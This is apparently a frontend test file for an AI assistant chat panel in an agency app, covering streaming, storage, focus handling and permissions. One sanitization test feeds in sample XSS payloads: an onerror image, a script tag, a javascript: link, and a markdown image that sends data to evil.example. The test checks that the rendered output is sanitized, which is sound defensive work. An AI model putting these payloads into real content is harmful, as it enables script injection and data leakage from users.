import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { currentUser } from '#domain/accounts/contract.ts';
import {
  chat,
  CHAT_FAILURE,
  getAssistant,
  SUGGESTED_PROMPTS,
  type ProposedPost,
} from '#domain/assistant/contract.ts';
import { encodeEvent, type ChatEvent } from '#domain/assistant/stream.ts';
import { mockApi, Refusal, type MockApi } from '#tests/support/mock-api.ts';
import { aUser, idOf } from '#tests/support/samples.ts';
import { abilitiesOf } from '#domain/agencies/abilities.ts';
import { showScreen } from '#tests/support/screen.tsx';
import { AppStateContext } from '#web/lib/app-state.ts';
import { MayContext } from '#web/lib/may.ts';
import { ChatPanel } from './chat-panel.tsx';
import { ChatView } from './chat-view.tsx';
import { keepLines, keyOf } from './kept-lines.ts';

let api: MockApi;
let people = 0;
const olive = () => ({
  id: `user-${people}`,
  email: 'olive@agency.example',
  phone: '+15550000001',
  firstName: 'Olive',
  lastName: 'Owner',
  profileImageUrl: null,
  timeZone: null,
  emailConfirmed: true,
  role: 'owner' as const,
  agencyId: '',
  abilities: null,
  seesAllClients: true,
  mustSecure: false,
  isClosing: false,
  hasColleagues: false,
  createdAt: '2026-01-01T00:00:00.000Z',
});

beforeEach(() => {
  people += 1;
  api = mockApi();
  api.on(currentUser, olive());
  api.on(getAssistant, { model: null });
});

const field = () => screen.getByRole<HTMLTextAreaElement>('textbox', { name: 'Message about Acme' });
const says = (message: string, proposals: ProposedPost[] = []) => ({ message, proposals });

/** A reply that the test controls. */
function streaming() {
  let line: ReadableStreamDefaultController<Uint8Array>;
  let signal: AbortSignal | null | undefined;
  const planned = fetch;
  vi.stubGlobal('fetch', (input: string, init: RequestInit) => {
    if (input !== chat.path) return planned(input, init);
    signal = init.signal;
    const body = new ReadableStream<Uint8Array>({ start: (controller) => void (line = controller) });
    signal?.addEventListener('abort', () => line.error(new DOMException('stopped', 'AbortError')));
    return Promise.resolve(new Response(body, { headers: { 'Content-Type': 'text/event-stream' } }));
  });
  return {
    tell: (event: ChatEvent) => line.enqueue(new TextEncoder().encode(encodeEvent(event))),
    end: () => line.close(),
    isStopped: () => signal?.aborted === true,
  };
}

test('it offers the four prompts, and the small panel two of them', async () => {
  const { user, unmount } = showScreen(<ChatView company="Acme" />);
  for (const name of SUGGESTED_PROMPTS) await screen.findByRole('button', { name });
  unmount();
  showScreen(<ChatPanel company="Acme" />);
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  await screen.findByRole('button', { name: SUGGESTED_PROMPTS[0] });
  screen.getByRole('button', { name: SUGGESTED_PROMPTS[1] });
  expect(screen.queryByRole('button', { name: SUGGESTED_PROMPTS[2] })).toBeNull();
});

test('a prompt is sent with the company and answered', async () => {
  const calls = api.on(chat, says('Post about **bread**.'));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.click(await screen.findByRole('button', { name: 'Caption ideas' }));
  expect((await screen.findByText('bread')).tagName).toBe('STRONG');
  expect(calls[0]?.body).toMatchObject({
    companyName: 'Acme',
    messages: [{ role: 'user', content: 'Caption ideas' }],
  });
});

test('Enter sends, Shift+Enter breaks the line, blank is not sent', async () => {
  const calls = api.on(chat, says('Yes.'));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), '   {enter}');
  expect(calls).toHaveLength(0);
  await user.clear(field());
  await user.type(field(), 'One{shift>}{enter}{/shift}two{enter}');
  await screen.findByText('Yes.');
  expect(calls[0]?.body.messages).toEqual([{ role: 'user', content: 'One\ntwo' }]);
  expect(field().value).toBe('');
});

test.each([
  ['most browsers', { isComposing: true }],
  ['Safari', { keyCode: 229 }],
])('Enter that ends a word of an input method sends nothing: %s', async (_where, more) => {
  const calls = api.on(chat, says('Yes.'));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'ねこ');
  fireEvent.keyDown(field(), { key: 'Enter', ...more });
  expect(calls).toHaveLength(0);
  expect(field().value).toBe('ねこ');
  await user.keyboard('{enter}');
  await screen.findByText('Yes.');
});

test('after a reply the input has the focus also where a click focuses what is around the button, as in Safari', async () => {
  const reply = streaming();
  const { user } = showScreen(<ChatPanel company="Acme" />);
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  const panel = await screen.findByRole('dialog', { name: 'Assistant' });
  await user.type(field(), 'Hello');
  act(() => panel.focus());
  fireEvent.click(screen.getByRole('button', { name: 'Send' }));
  await waitFor(() => expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Stop' })));
  act(() => panel.focus());
  reply.tell({ type: 'text', text: 'Here' });
  reply.tell({ type: 'done' });
  await waitFor(() => expect(document.activeElement).toBe(field()));
});

test('the next question carries what was said before', async () => {
  const calls = api.on(chat, ({ body }) => says(`Answer ${body.messages.length}`));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'First{enter}');
  await screen.findByText('Answer 1');
  await waitFor(() => expect(document.activeElement).toBe(field()));
  await user.type(field(), 'Second{enter}');
  await screen.findByText('Answer 3');
  expect(calls[1]?.body.messages.map(({ content }) => content)).toEqual(['First', 'Answer 1', 'Second']);
});

test('while a reply is pending the input rests; its words appear as they come; they are read out once, when it is whole', async () => {
  const reply = streaming();
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  expect(field().disabled).toBe(true);
  expect(screen.getByRole('status').textContent).toBe('The assistant is writing');
  reply.tell({ type: 'text', text: 'Good ' });
  await screen.findByText('Good');
  reply.tell({ type: 'text', text: 'morning' });
  await screen.findByText('Good morning');
  expect(screen.getByRole('status').textContent).toBe('The assistant is writing');
  expect(screen.getByRole('log').getAttribute('aria-busy')).toBe('true');
  expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
  reply.tell({ type: 'done' });
  await waitFor(() => expect(field().disabled).toBe(false));
  // One text, in a log that is no longer busy.
  screen.getByText('Hello');
  expect(
    screen
      .getByText(/Good morning/)
      .closest('[role=log]')
      ?.getAttribute('aria-busy'),
  ).toBe('false');
  screen.getByRole('button', { name: 'Copy' });
  await waitFor(() => expect(document.activeElement).toBe(field()));
});

test('Stop keeps what was said and ends the request', async () => {
  const reply = streaming();
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  reply.tell({ type: 'text', text: 'Half a' });
  await screen.findByText('Half a');
  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Stop' }));
  await user.keyboard('{enter}');
  await screen.findByText('You stopped this reply.');
  expect(reply.isStopped()).toBe(true);
  screen.getByText('Half a');
  expect(screen.queryByText(CHAT_FAILURE)).toBeNull();
});

test('a failure appends the message, says why, and can be tried again', async () => {
  api.on(chat, () => {
    throw new Refusal(503, 'The assistant’s model cannot be reached right now.');
  });
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  await screen.findByText('Sorry, I encountered an error. Please try again.');
  screen.getByText('The assistant’s model cannot be reached right now.');
  const calls = api.on(chat, says('Now it works.'));
  await user.click(screen.getByRole('button', { name: 'Try again' }));
  await screen.findByText('Now it works.');
  expect(screen.queryByText(CHAT_FAILURE)).toBeNull();
  expect(calls[0]?.body.messages).toEqual([{ role: 'user', content: 'Hello' }]);
});

test.each([
  ['an error event', { type: 'error', message: 'It broke off.' }],
  ['a line that ends early', null],
] as const)('%s keeps the words and appends the message', async (_, event) => {
  const reply = streaming();
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  reply.tell({ type: 'text', text: 'Half a' });
  if (event) reply.tell(event);
  reply.end();
  await screen.findByText(CHAT_FAILURE);
  screen.getByText('Half a');
});

const draft = { title: 'Oven at dawn', caption: 'The first bake.', companyName: 'Acme', date: '2026-11-24' };

/** The day of the screen; the rest of time goes on. */
const onDay = (day: string) => vi.useFakeTimers({ toFake: ['Date'], now: new Date(`${day}T12:00:00Z`) });
afterEach(() => void vi.useRealTimers());

test('a proposed draft is a card; using it opens the wizard of its company', async () => {
  onDay('2026-11-15');
  api.on(chat, says('Here:', [draft]));
  const { user, address } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'An idea{enter}');
  const card = await screen.findByRole('article', { name: 'Draft: Oven at dawn' });
  within(card).getByText('The first bake.');
  within(card).getByText('Tue, Nov 24');
  await user.click(within(card).getByRole('button', { name: 'Use as draft' }));
  expect(address()).toBe('/dashboard?company=Acme&new=post');
});

test('a card names the year of its day where that is not this year', async () => {
  onDay('2026-11-15');
  const later = { ...draft, title: 'Later', date: '2027-01-05' };
  api.on(chat, says('Here:', [draft, later]));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Ideas{enter}');
  const card = await screen.findByRole('article', { name: 'Draft: Later' });
  within(card).getByText('Tue, Jan 5, 2027');
  within(screen.getByRole('article', { name: 'Draft: Oven at dawn' })).getByText('Tue, Nov 24');
});

test('what a model writes cannot run, load or lead anywhere unseen', async () => {
  const evil = [
    '<img src=x onerror="document.title=1">',
    '![](https://evil.example/?leak=1)',
    '[click](javascript:alert(1))',
    '<script>document.title = 2</script>',
    '[out](https://elsewhere.example) and [in](/post/7)',
  ].join('\n\n');
  api.on(chat, says(evil));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  const out = await screen.findByRole('link', { name: 'out' });
  expect(out.getAttribute('rel')).toContain('noopener');
  expect(screen.getByRole('link', { name: 'in' }).getAttribute('href')).toBe('/post/7');
  expect(document.querySelector('img, script')).toBeNull();
  expect(screen.getAllByRole('link')).toHaveLength(2);
});

test('the conversation of each company is kept on this device until it is cleared', async () => {
  api.on(chat, ({ body }) => says(`About ${body.companyName ?? 'all'}`));
  const { user } = showScreen(<ChatView company="Acme" />);
  await user.type(field(), 'Hello{enter}');
  await screen.findByText('About Acme');
  const [key] = Object.keys(localStorage);
  const kept = localStorage.getItem(key ?? '');
  cleanup();

  // A new page knows only what is stored.
  showScreen(<ChatView company="acme" />);
  await screen.findByText('About Acme');
  expect(localStorage.getItem(key ?? '')).toBe(kept);
  cleanup();

  showScreen(<ChatView company={null} />);
  await screen.findByRole('button', { name: 'Caption ideas' });
  expect(screen.queryByText('About Acme')).toBeNull();
  cleanup();

  showScreen(<ChatView company="Acme" />);
  await user.click(await screen.findByRole('button', { name: 'Clear conversation' }));
  await screen.findByRole('button', { name: 'Caption ideas' });
  expect(localStorage.getItem(key ?? '')).toBeNull();
  await user.click(screen.getByRole('button', { name: 'Undo' }));
  await screen.findByText('About Acme');
  expect(localStorage.getItem(key ?? '')).toBe(kept);
});

test('the conversation of one agency is neither shown nor sent in another of the same person', async () => {
  const calls = api.on(chat, says('About our prices'));
  const there = idOf(10);
  // Kept by an earlier release, under the person alone.
  keepLines(keyOf(idOf(1), 'Acme'), [{ id: 1, role: 'user', content: 'Hello', proposals: [] }]);
  api.on(currentUser, aUser({ agencyId: there }));
  const { user } = showScreen(<ChatView company="Acme" />);
  await screen.findByText('Hello');
  await user.type(field(), 'Our prices{enter}');
  await screen.findByText('About our prices');
  cleanup();

  api.on(currentUser, aUser({ agencyId: idOf(11) }));
  showScreen(<ChatView company="Acme" />);
  await screen.findByRole('button', { name: 'Caption ideas' });
  expect(screen.queryByText('Hello')).toBeNull();
  await user.type(field(), 'Good morning{enter}');
  await waitFor(() => expect(calls).toHaveLength(2));
  expect(calls[1]?.body.messages).toEqual([{ role: 'user', content: 'Good morning' }]);
  cleanup();

  api.on(currentUser, aUser({ agencyId: there }));
  showScreen(<ChatView company="Acme" />);
  await screen.findByText('About our prices');
  screen.getByText('Hello');
});

test('the panel opens, fills the screen, shrinks and gives the focus back', async () => {
  const { user } = showScreen(<ChatPanel company="Acme" />);
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  const panel = await screen.findByRole('dialog', { name: 'Assistant' });
  expect(document.activeElement).toBe(field());
  expect(panel.getAttribute('aria-modal')).toBe('false');
  await user.click(screen.getByRole('button', { name: 'Maximize' }));
  expect(panel.getAttribute('aria-modal')).toBe('true');
  screen.getByRole('button', { name: 'Content strategy' });
  await user.click(field());
  await user.keyboard('{Escape}');
  expect(panel.getAttribute('aria-modal')).toBe('false');
  await user.click(screen.getByRole('button', { name: 'Minimize' }));
  expect(screen.queryByRole('dialog')).toBeNull();
  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Open assistant' }));
});

test('a reply goes on while the panel is minimised', async () => {
  const reply = streaming();
  const { user } = showScreen(<ChatPanel company="Acme" />);
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  await screen.findByRole('dialog', { name: 'Assistant' });
  await user.type(field(), 'Hello{enter}');
  await user.click(screen.getByRole('button', { name: 'Minimize' }));
  expect(reply.isStopped()).toBe(false);
  reply.tell({ type: 'text', text: 'Still here' });
  reply.tell({ type: 'done' });
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  await screen.findByText('Still here');
});

test('a question that was not sent stays in its conversation while the page lives', async () => {
  const about = (name: string) => screen.getByRole<HTMLTextAreaElement>('textbox', { name });
  const { user } = showScreen(<ChatPanel company="Acme" />);
  const open = () => user.click(screen.getByRole('button', { name: 'Open assistant' }));
  await open();
  await screen.findByRole('dialog', { name: 'Assistant' });
  await user.type(field(), 'A long question');
  await user.keyboard('{Escape}');
  await open();
  expect(field().value).toBe('A long question');
  await user.click(screen.getByRole('button', { name: 'Minimize' }));
  await open();
  expect(field().value).toBe('A long question');
  cleanup();
  // Of another conversation it is not the question.
  const { state, user: again } = showScreen(<ChatView company="Acme" />);
  await again.type(field(), 'For Acme');
  cleanup();
  showScreen(
    <AppStateContext value={state}>
      <ChatView company={null} />
    </AppStateContext>,
  );
  expect(about('Message about all clients').value).toBe('');
  cleanup();
  showScreen(
    <AppStateContext value={state}>
      <ChatView company="Acme" />
    </AppStateContext>,
  );
  expect(field().value).toBe('For Acme');
  api.on(chat, says('Yes.'));
  await again.type(field(), '{enter}');
  await screen.findByText('Yes.');
  expect(field().value).toBe('');
});

describe('in two tabs', () => {
  const key = () => Object.keys(localStorage).find((one) => one.endsWith(`user-${people}:acme`)) ?? '';
  const kept = () =>
    (JSON.parse(localStorage.getItem(key()) ?? '[]') as { content: string }[]).map(({ content }) => content);
  const tab = () => {
    const view = showScreen(<ChatView company="Acme" />);
    return { ...view, box: within(view.container) };
  };
  type Tab = ReturnType<typeof tab>;
  const ask = (one: Tab, text: string) =>
    one.user.type(one.box.getByRole('textbox', { name: 'Message about Acme' }), `${text}{enter}`);
  /** The browser tells other tabs; this document plays all of them. */
  const told = () => act(() => void window.dispatchEvent(new StorageEvent('storage', { key: key() })));

  test('a question erases nothing that was said in the other', async () => {
    api.on(chat, ({ body }) => says(`Answer to ${body.messages.at(-1)?.content}`));
    const [a, b] = [tab(), tab()];
    await a.box.findByRole('button', { name: 'Caption ideas' });
    await ask(a, 'One');
    await a.box.findByText('Answer to One');
    await ask(b, 'Two');
    await b.box.findByText('Answer to Two');
    b.box.getByText('Answer to One');
    expect(kept()).toEqual(['One', 'Answer to One', 'Two', 'Answer to Two']);
    expect(a.box.queryByText('Answer to Two')).toBeNull();
    told();
    a.box.getByText('Answer to Two');
  });

  test('two questions at the same time both keep their answers', async () => {
    const answers = new Map<string, () => void>();
    api.on(chat, async ({ body }) => {
      const asked = body.messages.at(-1)?.content ?? '';
      await new Promise<void>((resolve) => void answers.set(asked, resolve));
      return says(`Answer to ${asked}`);
    });
    const [a, b] = [tab(), tab()];
    await ask(a, 'One');
    await ask(b, 'Two');
    await waitFor(() => expect([...answers.keys()]).toEqual(['One', 'Two']));
    act(() => answers.get('One')?.());
    await a.box.findByText('Answer to One');
    act(() => answers.get('Two')?.());
    await b.box.findByText('Answer to Two');
    expect(kept()).toEqual(['One', 'Answer to One', 'Two', 'Answer to Two']);
  });

  test('clearing in one clears and stops the other', async () => {
    const reply = streaming();
    const [a, b] = [tab(), tab()];
    await ask(a, 'One');
    const name = key();
    told();
    await b.user.click(await b.box.findByRole('button', { name: 'Clear conversation' }));
    act(() => void window.dispatchEvent(new StorageEvent('storage', { key: name })));
    await a.box.findByRole('button', { name: 'Caption ideas' });
    expect(reply.isStopped()).toBe(true);
    await waitFor(() => expect(kept()).toEqual([]));
  });
});

/** A screen that is touched, as wide as a phone or wider. */
function touching(isPhone: boolean) {
  vi.stubGlobal('matchMedia', (query: string) =>
    Object.assign(new EventTarget(), {
      matches: query.includes('coarse') || (isPhone && query.includes('max-width')),
    }),
  );
}

test('on a phone the panel has the focus and not its input; Escape closes it wherever the focus is', async () => {
  touching(true);
  const { user } = showScreen(<ChatPanel company="Acme" />);
  const open = async () => {
    await user.click(screen.getByRole('button', { name: 'Open assistant' }));
    return screen.findByRole('dialog', { name: 'Assistant' });
  };
  const panel = await open();
  expect(panel.getAttribute('aria-modal')).toBe('true');
  expect(document.activeElement).toBe(panel);
  act(() => (document.activeElement as HTMLElement).blur());
  expect(document.activeElement).toBe(document.body);
  await user.keyboard('{Escape}');
  expect(screen.queryByRole('dialog')).toBeNull();
  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Open assistant' }));
  await open();
  await user.keyboard('{Escape}');
  expect(screen.queryByRole('dialog')).toBeNull();
  const again = await open();
  await user.tab({ shift: true });
  expect(document.activeElement).not.toBe(again);
  expect(again.contains(document.activeElement)).toBe(true);
});

test('after a reply on a phone the panel has the focus, and no keyboard comes up', async () => {
  touching(true);
  api.on(chat, says('Yes.'));
  const { user } = showScreen(<ChatPanel company="Acme" />);
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  const panel = await screen.findByRole('dialog', { name: 'Assistant' });
  await user.type(field(), 'Hello{enter}');
  await screen.findByText('Yes.');
  await waitFor(() => expect(document.activeElement).toBe(panel));
});

test('beside a page the focus may be elsewhere, and Escape then goes to the page and leaves the panel open', async () => {
  const heard = vi.fn();
  const { user } = showScreen(
    <>
      <input aria-label="On the page" onKeyDown={({ key }) => heard(key)} />
      <ChatPanel company="Acme" />
    </>,
  );
  await user.click(screen.getByRole('button', { name: 'Open assistant' }));
  const panel = await screen.findByRole('dialog', { name: 'Assistant' });
  const onPage = screen.getByLabelText('On the page');
  await user.click(onPage);
  await user.keyboard('{Escape}');
  expect(heard.mock.calls).toEqual([['Escape']]);
  expect(document.activeElement).toBe(onPage);
  expect(panel.isConnected).toBe(true);
  act(() => onPage.blur());
  await user.keyboard('{Escape}');
  expect(panel.isConnected).toBe(true);
  // With the focus in the panel Escape is the panel's.
  await user.click(field());
  await user.keyboard('{Escape}');
  expect(screen.queryByRole('dialog')).toBeNull();
});

test('neither the button nor the panel beside a page is printed', async () => {
  const { user } = showScreen(<ChatPanel company="Acme" />);
  const button = screen.getByRole('button', { name: 'Open assistant' });
  expect(button.className).toContain('print:hidden');
  await user.click(button);
  expect((await screen.findByRole('dialog', { name: 'Assistant' })).className).toContain('print:hidden');
});

test('who may not write posts reads so before asking, and asks nothing', async () => {
  const calls = api.on(chat, says('Hello'));
  const { user } = showScreen(
    <MayContext value={{ role: 'viewer', abilities: abilitiesOf('viewer') }}>
      <ChatView company="Acme" />
    </MayContext>,
  );
  const refusal = 'Your role, viewer, does not allow this. An owner can change that.';
  const prompt = await screen.findByRole('button', { name: SUGGESTED_PROMPTS[0] });
  expect([prompt.getAttribute('aria-disabled'), prompt.title]).toEqual(['true', refusal]);
  await user.click(prompt);
  expect([field().disabled, field().placeholder]).toEqual([true, refusal]);
  expect(screen.queryByRole('button', { name: 'Send' })).toBeNull();
  expect(calls).toHaveLength(0);
});
